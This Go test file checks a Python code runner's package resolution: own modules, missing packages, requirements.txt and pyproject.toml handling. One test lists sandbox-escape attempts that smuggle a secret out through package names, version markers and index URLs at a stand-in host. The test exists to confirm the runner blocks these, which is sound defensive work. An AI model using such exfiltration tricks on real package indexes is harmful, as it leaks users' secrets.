package python

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	view "coderunner/internal/project"
	"coderunner/internal/sample"
	"coderunner/runners"
	"coderunner/runners/python/wheel/wheeltest"
)

// runFiles runs a program with files, and returns which projects the index was
// asked for.
func runFiles(t *testing.T, x *index, r *Runner, code string, files map[string]string) (*runners.Outcome, []string) {
	t.Helper()
	x.asked()
	req := runners.Request{Language: runners.Python, Code: code}
	for path, text := range files {
		req.Files = append(req.Files, runners.File{Path: path, Data: []byte(text)})
	}
	o, err := r.Run(t.Context(), req)
	if err != nil {
		t.Fatal(err)
	}
	var asked []string
	for _, path := range x.asked() {
		if name, ok := strings.CutPrefix(path, "/simple/"); ok && name != "micropip/" && name != "packaging/" {
			asked = append(asked, strings.TrimSuffix(name, "/"))
		}
	}
	slices.Sort(asked)
	return o, asked
}

// For a module that a program brings or makes, nobody is asked for a package of
// its name.
func TestOwnModules(t *testing.T) {
	type files = map[string]string
	x := newIndex(t)
	for _, stranger := range []string{"utils", "mathlib", "pkg", "one"} {
		x.module(stranger, "6.6.6")
	}
	x.module("six", "1.0")
	library := wheeltest.Wheel{Filename: "x-1-py3-none-any.whl", Files: map[string]string{"pkg/__init__.py": "", "pkg/a.py": "version = 1"}}.Build()
	r := x.newRunner(base{}, false, t.TempDir())
	for _, test := range []struct {
		what, code string
		files      files
		want       string
	}{
		{"written", "open('utils.py', 'w').write('version = 1')\nimport utils, six\nutils.version, six.version", nil, "(1, '1.0')"},
		{"a package", "from pathlib import Path\nPath('pkg').mkdir()\nPath('pkg/__init__.py').write_text('')\nPath('pkg/a.py').write_text('version = 1')\nimport pkg.a\npkg.a.version", nil, "1"},
		{"computed", "for n, s in {'utils': 'version = 1'}.items():\n  open(n + '.py', 'w').write(s)\nimport utils\nutils.version", nil, "1"},
		{"made", "import sys, types\nm = types.ModuleType('one')\nm.version = 1\nsys.modules['one'] = m\nimport one\none.version", nil, "1"},
		{"on another path", "import sys\nsys.path.insert(0, 'src')\nimport mathlib.core\nmathlib.core.version", files{"src/mathlib/__init__.py": "", "src/mathlib/core.py": "import six\nversion = six.version"}, "'1.0'"},
		{"a directory alone", "import sys\nsys.path.append('lib')\nfrom pkg import a\na.version", files{"lib/pkg/a.py": "version = 1"}, "1"},
		{"in an archive", "import sys\nsys.path.append('lib.zip')\nfrom pkg import a\na.version", files{"lib.zip": string(library)}, "1"},
	} {
		o, asked := runFiles(t, x, r, test.code, test.files)
		value(t, o, test.want)
		if slices.ContainsFunc(asked, func(name string) bool { return name != "six" }) {
			t.Errorf("%s: the index was asked for %v", test.what, asked)
		}
	}
	// Their lines are in tracebacks, but the error's line is the program's own.
	o, _ := runFiles(t, x, r, "import sys\nsys.path.append('/tmp')\nopen('/tmp/made.py', 'w').write('\\n\\n\\n\\ndef f(): exec(\"\\\\n1/0\")')\nimport made\nmade.f()", nil)
	if e := o.Error; e == nil || e.Line != 5 || !strings.Contains(e.Traceback, `File "/tmp/made.py", line 5, in f`) || !strings.Contains(e.Traceback, `File "<string>", line 2, in <module>`) {
		t.Errorf("%+v", o.Error)
	}
	// Where the file is not on the path, that is what is said.
	o, asked := runFiles(t, x, r, "import mathlib", files{"src/mathlib/__init__.py": ""})
	if o.Status != runners.Failed || len(asked) > 0 || !strings.Contains(o.Error.Message, "put its directory on sys.path") {
		t.Errorf("%+v, asked for %v", o.Error, asked)
	}
	// A name that is nearly always a program's own file gets no package of its name.
	o, asked = runFiles(t, x, r, "import six\nprint('begun')\nfrom utils import helper", nil)
	refused(t, o, "utils", "send it in files", "give its name in packages")
	if o.Stdout != "begun\n" || o.Error.Line != 3 || slices.Contains(asked, "utils") {
		t.Errorf("%+v, stdout %q, asked for %v", o.Error, o.Stdout, asked)
	}
	value(t, run(t, r, "try:\n  import utils\nexcept ImportError:\n  utils = 0\nutils"), "0")
	// What packages asks for is another matter.
	o = run(t, r, "open('other.py', 'w')\nimport utils\nutils.version", "utils")
	value(t, o, "'6.6.6'")
}

// That the index does not have a name is no reason not to start.
func TestNoSuchPackage(t *testing.T) {
	x := newIndex(t)
	x.module("six", "1.0")
	x.module("stranger", "1.0", "absent")
	r := x.newRunner(base{}, false, t.TempDir())
	o := run(t, r, "print('begun')\nimport nowhere\n")
	refused(t, o, "nowhere", "there is no package of this name", "the program imports nowhere")
	if o.Stdout != "begun\n" || o.Error.Line != 2 || !strings.Contains(o.Error.Traceback, "ModuleNotFoundError") {
		t.Errorf("%+v, stdout %q", o.Error, o.Stdout)
	}
	// Nor is that the index's package of the name cannot be had, if it may be another.
	own := run(t, r, "print('begun')\nfrom stranger.inner import f\n")
	refused(t, own, "stranger", "absent: ", "the program imports stranger.inner: if that is a file of its own, send it in files")
	if own.Stdout != "begun\n" || own.Error.Line != 2 {
		t.Errorf("%+v, stdout %q", own.Error, own.Stdout)
	}
	for code, want := range map[string]runners.Status{
		"import sys\nif sys.argv:\n  sys.exit(0)\nimport nowhere":                               runners.Succeeded,
		"import six\ntry:\n  exec('import nowhere')\nexcept ImportError:\n  pass\nimport six":   runners.Succeeded,
		"if False:\n  import nowhere\nraise ModuleNotFoundError(\"No module named 'another'\")": runners.Failed,
		"import six, nowhere":  runners.NotInstalled,
		"import nowhere.inner": runners.NotInstalled,
	} {
		if o := run(t, r, code); o.Status != want {
			t.Errorf("%s\nended with %s %+v, want %s", code, o.Status, o.Error, want)
		}
	}
}

// A program's requirements.txt and pyproject.toml say which versions it means.
func TestRequirementFiles(t *testing.T) {
	type files = map[string]string
	x := newIndex(t)
	x.module("alpha", "1.0", "beta")
	x.module("alpha", "2.0")
	x.module("beta", "1.0")
	plugin := pure("plugin", "1.0", map[string]string{"plugin.py": ""})
	x.add(plugin)
	r := x.newRunner(base{}, false, t.TempDir())
	sum := func(w wheeltest.Wheel) string { return wheeltest.SHA256(w.Build()) }
	const code = "import alpha\nalpha.version"
	for _, test := range []struct {
		files     files
		want      string
		installed string
	}{
		{files{"requirements.txt": "alpha<2\nplugin\nwindows; sys_platform == 'win32'\n"}, "'1.0'", "alpha 1.0, beta 1.0, plugin 1.0"},
		{files{"requirements.txt": "-r more.txt\n", "more.txt": "alpha==1.0\nnowhere\n"}, "'1.0'", "alpha 1.0, beta 1.0"},
		{files{"pyproject.toml": "[project]\ndependencies = ['alpha<2']\n"}, "'1.0'", "alpha 1.0, beta 1.0"},
		{files{"sub/requirements.txt": "alpha<2\n"}, "'2.0'", "alpha 2.0"},
		{files{"requirements.txt": "-c limits.txt\n", "limits.txt": "alpha<2\nbeta==1.0\nplugin==9"}, "'1.0'", "alpha 1.0, beta 1.0"},
		{files{"pyproject.toml": "[dependency-groups]\ntest = ['alpha<2', 'plugin']\n"}, "'1.0'", "alpha 1.0, beta 1.0"},
	} {
		o, _ := runFiles(t, x, r, code, test.files)
		value(t, o, test.want)
		if got := installed(o); got != test.installed {
			t.Errorf("%v: %s, want %s", test.files, got, test.installed)
		}
	}
	o, _ := runFiles(t, x, r, code, files{"requirements.txt": "alpha==9\n"})
	refused(t, o, "alpha", "no version is ==9")
	o, _ = runFiles(t, x, r, "import plugin\n1", files{"requirements.txt": "plugin==1.0 --hash=sha256:" + sum(plugin)})
	value(t, o, "1")
	o, _ = runFiles(t, x, r, "import plugin\n1", files{"requirements.txt": "plugin==1.0 --hash=sha256:" + strings.Repeat("0", 64)})
	refused(t, o, "plugin", "no file of it with the SHA-256 that requirements.txt states")
	// A program that only reads the file needs nothing of it.
	o, asked := runFiles(t, x, r, "len(open('requirements.txt').read())", files{"requirements.txt": "alpha\n"})
	value(t, o, "6")
	if len(asked) > 0 || len(o.Packages) > 0 {
		t.Errorf("asked for %v, installed %s", asked, installed(o))
	}
	_, err := r.Run(t.Context(), runners.Request{
		Language: runners.Python, Code: code, Files: []runners.File{{Path: "requirements.txt", Data: []byte("alpha\n--index-url https://x.invalid/\n")}},
	})
	if err == nil || !strings.Contains(err.Error(), "requirements.txt, line 2: the option --index-url is not supported") {
		t.Errorf("an option: %v", err)
	}
}

// TestProjectAdvice has the files of a project bind the versions of what a program imports,
// where they can.
func TestProjectAdvice(t *testing.T) {
	x := newIndex(t)
	x.module("alpha", "1.0", "beta")
	x.module("alpha", "2.0")
	x.module("beta", "1.0")
	r := x.newRunner(base{}, false, t.TempDir())
	for _, test := range []struct{ name, text, want, note string }{
		{"requirements.txt", "-e .\nalpha<2\nnowhere==1\n???\n", "alpha 1.0, beta 1.0", ""},
		{"app/requirements.txt", "alpha[extra]==1.0\n", "alpha 1.0, beta 1.0", ""},
		{"pyproject.toml", "[project]\ndependencies = ['alpha<2']\n", "alpha 1.0, beta 1.0", ""},
		{"requirements.txt", "alpha==1.5\n", "alpha 2.0", "the project asks for"},
		{"requirements.txt", "alpha\nbeta==9", "alpha 2.0", ""},
	} {
		dir := t.TempDir()
		for name, text := range map[string]string{test.name: test.text, "app/main.py": ""} {
			path := filepath.Join(dir, name)
			if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(text), 0o600)); err != nil {
				t.Fatal(err)
			}
		}
		v, err := view.Open(dir)
		if err != nil {
			t.Fatal(err)
		}
		defer v.Close()
		v.Dir, v.Program = "app", "app/main.py"
		o, err := r.Run(t.Context(), runners.Request{Language: runners.Python, Code: "import alpha\nalpha.version", Filename: "main.py", Project: v})
		if err != nil || o.Status != runners.Succeeded || installed(o) != test.want || !strings.Contains(o.Note, test.note) || (o.Note == "") != (test.note == "") {
			t.Errorf("%s %q: %v %+v, want %s and the note %q", test.name, test.text, err, o, test.want, test.note)
		}
	}
}

// A running program cannot tell the index anything: what it may install is
// decided by its text, and fetched before it begins.
func TestNothingAskedWhileRunning(t *testing.T) {
	x := newIndex(t)
	for _, name := range []string{"aa", "bb", "cc", "secret"} {
		x.module(name, "1.0")
		x.module(name, "2.0")
	}
	x.add(pure("extra", "1.0", map[string]string{"extra.py": ""}, "dd; extra == 'x'"))
	dir := t.TempDir()
	attack := func(r *Runner, secret, attempt string) (*runners.Outcome, string) {
		t.Helper()
		x.asked()
		o, err := r.Run(t.Context(), runners.Request{
			Language: runners.Python, Stdin: strings.NewReader(secret), Files: []runners.File{{Path: "data.txt", Data: []byte("secret")}},
			Code: "import micropip, sys\nsecret = sys.stdin.read()\ndef ask(*r, **k):\n  try:\n    micropip.install(*r, **k)\n  except Exception as e:\n    print(type(e).__name__, e)\n" + attempt,
		})
		if err != nil {
			t.Fatal(err)
		}
		seen := x.asked() // several at a time, in any order
		slices.Sort(seen)
		return o, strings.Join(seen, " ")
	}
	for _, attempt := range sample.Of(t, 3, []string{
		"ask('x' + secret.encode().hex())",
		"ask('x' * len(secret))",
		"ask(secret)",
		"ask(open('data.txt').read())",
		"ask(f'aa=={len(secret)}.0')",
		"ask(f'aa[{secret}]')",
		"ask(f'aa; python_version > \"{secret}\"')",
		"ask(f'aa==1.0+{secret}')",
		"ask(f'aa @ https://x.invalid/{secret}')",
		"ask('aa', index_urls='https://x.invalid/' + secret)",
		"for c in secret:\n  ask({'a': 'aa', 'b': 'bb', 'c': 'cc'}[c])",
		"ask(['aa', 'bb', 'cc'][:len(secret)])",
		"ask('aa', deps=len(secret) > 1)",
		"ask(['aa'] if len(secret) > 1 else ['bb', 'cc'])",
		"import importlib\ntry:\n  importlib.import_module('x' + secret)\nexcept ImportError as e:\n  print(e)",
		"import aa\nif len(secret) > 1:\n  import bb",
		"import _coderunner\nfor name in ('micropip.install', 'micropip.import'):\n  for a in ({'requirements': ['x' + secret], 'deps': True}, 'x' + secret):\n    try:\n      _coderunner.call(name, a)\n    except Exception as e:\n      print(e)",
		"import micropip.x\nmicropip.install('extra' + ('[x]' if len(secret) > 1 else ''))",
	}) {
		// The index sees the same, whatever the program knows.
		_, none := attack(x.newRunner(base{}, false, t.TempDir()), "", attempt)
		o, all := attack(x.newRunner(base{}, false, t.TempDir()), "abc", attempt)
		if none != all || strings.Contains(all, "secret") {
			t.Errorf("%s\nwas seen as %s\nand as %s", attempt, none, all)
		}
		if strings.Contains(o.Stdout, "KeyError") {
			t.Errorf("%s\nprinted %s", attempt, o.Stdout)
		}
	}
	o, _ := attack(x.newRunner(base{}, false, dir), "abc", "ask('x' + secret)")
	if !strings.Contains(o.Stdout, "ValueError Can't install\nxabc: it was not prepared before the program began") {
		t.Errorf("a computed name: %s", o.Stdout)
	}
	// Under a policy that lets it reach the index it may ask.
	r := x.newRunner(base{}, false, dir)
	r.cfg.Policy.Net = runners.Grant{List: []string{strings.TrimPrefix(x.server.URL, "http://")}}
	o, seen := attack(r, "abc", "ask('x' + secret)\nask('a' * 2 + '<2')\nimport aa\nprint(aa.version)")
	if !strings.Contains(seen, "/simple/xabc/") || !strings.HasSuffix(o.Stdout, "1.0\n") {
		t.Errorf("allowed: %s, the index saw %s", o.Stdout, seen)
	}
}

// One package that cannot be installed is not in the way of others that are
// optional, too.
func TestOptionalApart(t *testing.T) {
	x := newIndex(t)
	x.module("alpha", "1.0")
	x.module("gamma", "1.0")
	x.addBytes("broken-1.0-py3-none-any.whl", []byte("not a zip file"))
	r := x.newRunner(base{}, false, t.TempDir())
	const tries = "import gamma\nfound = []\nfor name in 'alpha', 'broken':\n  try:\n    __import__(name)\n    found.append(name)\n  except ImportError:\n    pass\nfound"
	imports := "def f():\n  import alpha, broken\n"
	o := run(t, r, imports+tries)
	value(t, o, "['alpha']")
	o, _ = runFiles(t, x, r, tries, map[string]string{"requirements.txt": "alpha\nbroken\ngamma\n"})
	value(t, o, "['alpha']")
	value(t, run(t, r, "import micropip\n"+imports+"micropip.install('gamma')\n"+tries), "['alpha']")
}
